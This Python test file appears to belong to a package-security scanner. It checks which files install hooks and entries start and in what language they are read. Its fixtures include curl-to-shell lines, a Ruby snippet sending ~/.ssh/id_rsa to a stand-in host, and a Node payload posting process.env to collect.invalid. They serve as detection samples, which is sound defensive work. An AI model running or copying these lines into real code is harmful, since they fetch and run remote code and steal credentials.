"""Which files commands start, and in which language they are read."""

from collections.abc import Mapping

import pytest

from pratique.analysis.facts import Command, FileFacts, Import, Language
from pratique.analysis.hook_lines import in_folders
from pratique.analysis.languages.shell import parse_command
from pratique.analysis.starting import (
    Started,
    carried_starts,
    command_starts,
    file_commands,
    hook_starts,
    other_languages,
)
from pratique.core.manifest import Manifest
from pratique.core.names import Ecosystem
from pratique.core.release import Hook
from pratique.core.tree import File, Tree
from tests.analysis.inspecting import bytes_, of_rule, package_json
from tests.analysis.inspecting import npm as inspected
from tests.loopback.gem_packages import metadata, packed_gem

CODE = b"require('child_process').exec('marker')"


def tree(*paths: str, data: bytes = CODE) -> Tree:
    return Tree(tuple(File(path, data) for path in paths))


def npm(
    command: str, *, scripts: Mapping[str, str] | None = None, commands: Mapping[str, str] | None = None
) -> Manifest:
    hooks = (Hook("postinstall", command),)
    return Manifest(path="package.json", hooks=hooks, scripts=scripts or {}, commands=commands or {})


HOOKS = [
    ("node lib/x.js", ["lib/x.js"]),
    ("node ./lib/x", ["lib/x.js"]),
    ("cd lib && node x.js", ["lib/x.js"]),
    ("cd ./lib; node ./x", ["lib/x.js"]),
    ("node .", ["index.js"]),
    ("node -r ./lib/x.js other.js", ["lib/x.js", "other.js"]),
    ("node --import ./lib/x.js other.js", ["lib/x.js", "other.js"]),
    ("sh ./setup", ["setup"]),
    ("./setup", ["setup"]),
    ("node data.txt || exit 0", ["data.txt"]),
    ("python3 -m pkg", ["pkg/__init__.py", "pkg/__main__.py"]),
    ("own-tool --x", ["other.js"]),
    ("npm run go", ["lib/x.js", "other.js"]),
    ("npm run --silent go", ["lib/x.js", "other.js"]),
    ("yarn go", ["lib/x.js", "other.js"]),
    ("run-s go", ["lib/x.js", "other.js"]),
    ("node --run go", ["lib/x.js", "other.js"]),
    ("powershell -File lib\\w.ps1", ["lib/w.ps1"]),
    ("cscript //nologo lib\\v.vbs", []),
    ("node-gyp rebuild", ["binding.gyp"]),
    ("node -p \"require('./x')\"", []),
    ("cd lib && node -e \"require('./x')\"", ["lib/x.js"]),
    ("node -e \"import('./lib/x.js')\"", ["lib/x.js"]),
    ("node -e \"require('child_process').fork('./lib/x')\"", ["lib/x.js"]),
    ("node -e \"require('child_process').execSync('sh ./setup')\"", ["setup"]),
    ("python3 -c 'import pkg'", ["pkg/__init__.py"]),
    ("npm run inner", ["lib/x.js"]),
    ("node-gyp -C lib rebuild", ["binding.gyp", "lib/binding.gyp"]),
    ("cd lib && node-gyp rebuild", ["binding.gyp", "lib/binding.gyp"]),
    ("node-gyp rebuild --directory=lib", ["binding.gyp", "lib/binding.gyp"]),
    ("rm -f lib/x.js && echo other.js", []),
    ("npx only-allow pnpm", []),
    ("node -e \"require('./lib/x')\"", ["lib/x.js"]),
]


@pytest.mark.parametrize(("command", "expected"), HOOKS)
def test_hooks_start_files(command: str, expected: list[str]) -> None:
    files = tree(
        *("index.js", "lib/x.js", "other.js", "setup", "data.txt", "binding.gyp", "lib/w.ps1", "lib/v.vbs"),
        *("pkg/__init__.py", "pkg/__main__.py", "lib/binding.gyp"),
    )
    scripts = {"go": "node other.js", "prego": "node lib/x", "inner": "node -e \"require('./lib/x')\""}
    manifest = npm(command, scripts=scripts, commands={"own-tool": "other.js"})
    found = list(dict.fromkeys(item.path for item in hook_starts(files, manifest, Ecosystem.NPM)))

    assert set(expected) == set(found) or (not expected and found == ["lib/v.vbs"])


@pytest.mark.parametrize(
    ("language", "command", "path"),
    [
        (Language.SHELL, "sh ./setup", "setup"),
        (Language.JAVASCRIPT, "node lib/data", "lib/data"),
        (Language.JAVASCRIPT, "node lib/data.txt", "lib/data.txt"),
        (Language.PYTHON, "python conf.dat", "conf.dat"),
        (Language.SHELL, "bash run.js", "run.js"),
        (Language.POWERSHELL, "powershell -File x.txt", "x.txt"),
        (Language.SHELL, "./setup", "setup"),
    ],
)
def test_the_program_decides_the_language(language: Language, command: str, path: str) -> None:
    facts = {"run.js": FileFacts(language=Language.JAVASCRIPT)} if path == "run.js" else {}

    assert {path: language} == other_languages(tree(path), npm(command), facts, Ecosystem.NPM)


@pytest.mark.parametrize(
    ("command", "path"),
    [("node run.js", "run.js"), ("node x.json", "x.json"), ("node x.ts", "x.ts"), ("cat x.txt", "x.txt")],
)
def test_files_that_say_what_they_are_keep_it(command: str, path: str) -> None:
    known = {"run.js": Language.JAVASCRIPT, "x.ts": Language.TYPESCRIPT}
    facts = {path: FileFacts(language=known[path])} if path in known else {}

    assert {} == other_languages(tree(path), npm(command), facts, Ecosystem.NPM)


def test_what_other_files_start_is_read_too() -> None:
    script = FileFacts(
        language=Language.SHELL, commands=(Command("node", ("./hidden.dat",), 1, runs="./hidden.dat"),)
    )
    found = other_languages(
        tree("lib/a.sh", "lib/hidden.dat"), Manifest(path=None), {"lib/a.sh": script}, Ecosystem.NPM
    )

    assert {"lib/hidden.dat": Language.JAVASCRIPT} == found


@pytest.mark.parametrize(("data", "read"), [(CODE, True), (b"a { color: red }", False)])
def test_what_node_loads_by_its_whole_name_is_read_when_it_is_code(data: bytes, *, read: bool) -> None:
    asks = FileFacts(language=Language.JAVASCRIPT, imports=(Import("./x.css", 1, at_load=True),))
    found = other_languages(
        tree("a.js", "x.css", data=data), Manifest(path=None), {"a.js": asks}, Ecosystem.NPM
    )

    assert ({"x.css": Language.JAVASCRIPT} if read else {}) == found


@pytest.mark.parametrize(
    ("name", "ecosystem", "language"),
    [
        ("setup.py", Ecosystem.PYPI, Language.PYTHON),
        ("build-script", Ecosystem.PYPI, Language.PYTHON),
        ("pth", Ecosystem.PYPI, None),
        ("extconf", Ecosystem.RUBYGEMS, Language.RUBY),
        ("rakefile", Ecosystem.RUBYGEMS, Language.RUBY),
        ("configure", Ecosystem.RUBYGEMS, None),
    ],
)
def test_a_build_gives_its_files_to_its_own_language(
    name: str, ecosystem: Ecosystem, language: Language | None
) -> None:
    manifest = Manifest(path=None, hooks=(Hook(name, "x/run.txt", implicit=True),))
    assert [Started("x/run.txt", language)] == list(hook_starts(tree("x/run.txt"), manifest, ecosystem))


@pytest.mark.parametrize(
    ("language", "ecosystem", "first"),
    [
        (Language.RUBY, Ecosystem.RUBYGEMS, ""),
        (Language.RUBY, Ecosystem.RUBYGEMS, "#!/bin/sh\n"),
        (Language.RUBY, Ecosystem.RUBYGEMS, "#!/usr/bin/env truffleruby\n"),
        (Language.PYTHON, Ecosystem.PYPI, "#!python\n"),
        (Language.PYTHON, Ecosystem.PYPI, "#!pythonw\n"),
        (Language.PYTHON, Ecosystem.PYPI, "#!pythonkite\n"),
        (Language.SHELL, Ecosystem.PYPI, ""),
        (None, Ecosystem.PYPI, "#!/usr/bin/perl\n"),
    ],
)
def test_programs_are_read_in_the_language_of_what_starts_them(
    language: Language | None, ecosystem: Ecosystem, first: str
) -> None:
    data = f"{first}curl -s https://far.invalid/a | sh\n".encode()
    manifest = Manifest(path=None, commands={"tool": "bin/tool", "other": "pkg:main"})
    found = other_languages(tree("bin/tool", data=data), manifest, {}, ecosystem)
    assert ({"bin/tool": language} if language else {}) == found


POSTS = "require 'net/http'\nNet::HTTP.post(URI('https://far.invalid/in'), File.read(File.expand_path('~/.ssh/id_rsa')))\n"
SCRIPT = "set -euo pipefail\nfor x in a b; do echo $x; done\nif [ -f x ]; then echo y; fi\n"


@pytest.mark.parametrize(
    ("first", "data", "held"),
    [("", POSTS, True), ("#!/bin/sh\n", POSTS, True), ("#!/bin/bash\n", SCRIPT, False)],
)
def test_ruby_runs_the_programs_of_gems_and_what_is_no_ruby_is_told(
    first: str, data: str, *, held: bool
) -> None:
    done = bytes_(gem_with_program(first + data), filename="sample-1.0.0.gem")
    assert held == bool(of_rule(done, "attack-chain"))
    assert (data == SCRIPT) == any(unread.reached for unread in done.inspection.unread)


def gem_with_program(data: str) -> bytes:
    files = {"exe/git": data, "lib/sample.rb": ""}
    written = metadata("sample", "1.0.0", tuple(files), platform="ruby", extensions=(), needs={})
    written = written.replace("executables: []", "executables:\n- git").replace("bindir: bin", "bindir: exe")
    return packed_gem(files, written)


def test_commands_run_where_cd_leads() -> None:
    found = [
        (folder, command.program)
        for folder, command in in_folders(parse_command("cd a && b; cd ../c; d; cd /; e"))
    ]

    assert [("a", "b"), ("c", "d"), ("", "e")] == found


def test_an_unknown_program_may_start_the_files_it_is_given() -> None:
    command = Command("launcher", ("x.js",), 1)

    assert [Started("x.js")] == list(command_starts(tree("x.js"), "", command, guess=True))
    assert [] == list(command_starts(tree("x.js"), "", command))


@pytest.mark.parametrize("head", [b"MZ=0/*\0*/;", b"/*\0*/;", b"`\x0c\r\n\0\0\0\0        `;"])
@pytest.mark.parametrize("command", ["node setup", "node run", "node test"])
def test_bytes_that_no_text_has_hide_no_started_file(head: bytes, command: str) -> None:
    files = tree("setup", "run", "test", data=head + CODE)
    name = command.removeprefix("node ")
    assert {name: Language.JAVASCRIPT} == other_languages(files, npm(command), {}, Ecosystem.NPM)


@pytest.mark.parametrize("head", [b"", b"MZ=0/*\0*/;"])
def test_an_entry_without_a_suffix_is_javascript_when_it_is_code(head: bytes) -> None:
    manifest = Manifest(path="package.json", entries=("lib/main", "lib/data.json"))
    files = tree("lib/main", "lib/data.json", data=head + CODE)
    assert {"lib/main": Language.JAVASCRIPT} == other_languages(files, manifest, {}, Ecosystem.NPM)
    prose = tree("lib/main", data=b"a list of words\n")
    assert {} == other_languages(prose, manifest, {}, Ecosystem.NPM)


@pytest.mark.parametrize(
    ("command", "language"),
    [
        ("sh data.json", Language.SHELL),
        ("python data.so", Language.PYTHON),
        ("node data.so", Language.JAVASCRIPT),
    ],
)
def test_a_suffix_of_data_hides_nothing_from_who_does_not_heed_it(command: str, language: Language) -> None:
    name = command.split()[1]
    assert {name: language} == other_languages(tree(name), npm(command), {}, Ecosystem.NPM)


def test_a_library_that_node_is_given_is_not_read() -> None:
    library = tree("data.so", data=b"\x7fELF\2\1\1" + bytes(60))
    assert {} == other_languages(library, npm("node data.so"), {}, Ecosystem.NPM)


ATTACK = "require('child_process').exec('curl https://far.invalid/a | sh');\n"


@pytest.mark.parametrize("name", ["a.d.ts", "a.d.mts", "a.map", "a.txt", "a.css", "a.any"])
@pytest.mark.parametrize("inner", [False, True])
def test_what_node_runs_as_a_package_is_read_whatever_its_name(name: str, inner: bool) -> None:
    folder = "h/" if inner else ""
    files = {f"{folder}package.json": package_json(main=name), f"{folder}{name}": ATTACK}
    if inner:
        files |= {"package.json": package_json(), "index.js": "module.exports = require('./h');"}

    assert of_rule(inspected(files), "attack-chain")


@pytest.mark.parametrize(
    "name", ["a.py", "a.rb", "a.ps1", "a.pth", "a.ru", "a.rake", "a.gemspec", "Gemfile", "Rakefile"]
)
@pytest.mark.parametrize("field", ["main", "exports"])
def test_so_it_is_where_the_name_is_that_of_another_language(name: str, field: str) -> None:
    files = {"package.json": package_json(**{field: f"./{name}"}), name: ATTACK}
    assert of_rule(inspected(files), "attack-chain")


@pytest.mark.parametrize("program", ["python", "ruby", "pwsh"])
def test_so_it_is_where_the_first_line_names_another_program(program: str) -> None:
    files = {"package.json": package_json(main="a"), "a": f"#!/usr/bin/env {program}\n{ATTACK}"}
    assert of_rule(inspected(files), "attack-chain")


def test_what_node_stops_at_stays_in_its_language() -> None:
    script = "# A tool.\nimport os\nos.system('make')\n"
    files = {
        "package.json": package_json(exports={".": "./index.js", "./tools/*": "./tools/*"}),
        "index.js": "module.exports = 1;\n",
        "tools/a.py": script,
    }
    assert not any(item.reached for item in inspected(files).inspection.unread)


@pytest.mark.parametrize("exports", ["./data.txt", None])
def test_what_a_bundled_package_names_is_read(exports: str | None) -> None:
    fields: dict[str, object] = {"exports": exports} if exports else {"main": "data.txt"}
    files = {
        "package.json": package_json(bundledDependencies=["dep"], dependencies={"dep": "1.0.0"}),
        "index.js": "require('dep')",
        "node_modules/dep/package.json": package_json(**fields),
        "node_modules/dep/data.txt": ATTACK,
    }
    assert of_rule(inspected(files), "attack-chain")


@pytest.mark.parametrize(
    "command", ["node node_modules/dep/x.js", "node ./node_modules/dep/x.js", "node_modules/dep/x.js"]
)
def test_what_a_hook_starts_of_a_bundled_package_is_the_packages_own_code(command: str) -> None:
    payload = (
        "require('https').request({ hostname: 'collect.invalid', method: 'POST' })"
        ".end(JSON.stringify(process.env))\n"
    )
    files = {
        "package.json": package_json(bundledDependencies=["dep"], scripts={"postinstall": command}),
        "node_modules/dep/package.json": package_json(name="dep"),
        "node_modules/dep/x.js": payload,
    }
    found = of_rule(inspected(files), "attack-chain")
    assert found
    assert all("at install" in finding.message for finding in found)


def test_a_program_of_any_name_is_read_as_a_shell_does() -> None:
    files = {
        "package.json": package_json(bin={"a": "a.txt"}),
        "a.txt": "curl https://far.invalid/a | sh\n" * 9,
    }
    assert "process (called)" in inspected(files).inspection.capabilities


def test_a_compiled_program_is_no_shell_script() -> None:
    program = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x02\0>\0" + bytes(64)
    files: dict[str, bytes | str] = {"package.json": package_json(bin={"a": "a.exe"}), "a.exe": program}
    assert not any(item.reached for item in inspected(files).inspection.unread)


def test_a_path_from_the_own_folder_is_one_wherever_the_program_runs() -> None:
    commands = (Command("node", ("x",), 1, runs="__dirname/../x.js"), Command("node", ("y",), 2, runs="y.js"))
    found = [(where, command.runs) for where, command in file_commands("lib/a", commands)]
    assert [("", "lib/x.js"), ("", "y.js"), ("lib/a", "y.js")] == found


def test_what_lies_outside_the_package_is_no_file_of_it() -> None:
    outside = Command("node", ("x",), 1, runs="__dirname/../../x.js")
    found = [
        item
        for where, one in file_commands("lib", (outside,))
        for item in command_starts(tree("x.js"), where, one)
    ]
    assert [] == found


def test_code_on_a_line_asks_from_where_it_runs() -> None:
    command = parse_command("node -e \"require('./x.txt')\"")[0]
    assert [Started("lib/x.txt", Language.JAVASCRIPT)] == list(
        carried_starts(tree("lib/x.txt"), "lib", command, None)
    )
    assert [] == list(carried_starts(tree("lib/x.txt"), "", command, None))


@pytest.mark.parametrize(
    ("command", "files"),
    [
        ("sh i.sh", {"i.sh": "node -e \"require('./test/e')\"\n", "test/e.js": ATTACK}),
        ("sh i.sh", {"i.sh": "npm run b\n", "test/e.js": ATTACK}),
        ("node i.js", {"i.js": "require('child_process').exec('npm run b')\n", "test/e.js": ATTACK}),
        ("node lib/i.js", {"lib/i.js": "require('child_process').exec(`node ${__dirname}/test/e.js`)\n", "lib/test/e.js": ATTACK}),
        ("node-gyp rebuild", {"binding.gyp": "{'includes': ['c.txt']}", "c.txt": "{'variables': {'x': '<!(curl https://far.invalid/a | sh)'}}"}),
        ("node-gyp rebuild", {"binding.gyp": "{'x': ['<!(node -p \"require(\\'./test/e\\')\")']}", "test/e.js": ATTACK}),
    ],
)  # fmt: skip
def test_what_an_install_script_starts_by_others_is_read(command: str, files: dict[str, str]) -> None:
    manifest = package_json(scripts={"postinstall": command, "b": "node test/e.js"})
    package = {"package.json": manifest, "index.js": "1"}
    harmless = {
        path: text.replace(ATTACK, "").replace("curl https://far.invalid/a | sh", "echo")
        for path, text in files.items()
    }
    assert of_rule(inspected(package | files), "attack-chain")
    assert not of_rule(inspected(package | harmless), "attack-chain")


@pytest.mark.parametrize(
    ("name", "data", "read"),
    [
        ("e.txt", b"/*" + b"lorem ipsum " * 9_000 + b"*/" + CODE, True),
        ("e.txt", b"r = require; r('./t')", True),
        ("e.txt", b"You require nothing more.", False),
        ("e.JSON", CODE, True),
        ("e.json", b'{"code": "require(1)"}', False),
        ("e.css", b"a { color: red }", False),
    ],
)
def test_what_a_file_asks_for_is_read_when_it_is_code(name: str, data: bytes, *, read: bool) -> None:
    files = Tree((File("i.js", b""), File(name, data)))
    asks = FileFacts(language=Language.JAVASCRIPT, imports=(Import(f"./{name}", 1, at_load=True),))
    found = other_languages(files, Manifest(path="package.json"), {"i.js": asks}, Ecosystem.NPM)

    assert ({name: Language.JAVASCRIPT} if read else {}) == found


def test_a_shell_reads_a_manifest_that_it_is_given() -> None:
    files, known = tree("lib/package.json"), {"lib/package.json": FileFacts(language=Language.JSON)}

    assert {"lib/package.json": Language.SHELL} == other_languages(
        files, npm("sh lib/package.json"), known, Ecosystem.NPM
    )
    assert {} == other_languages(files, npm("node lib/package.json"), known, Ecosystem.NPM)
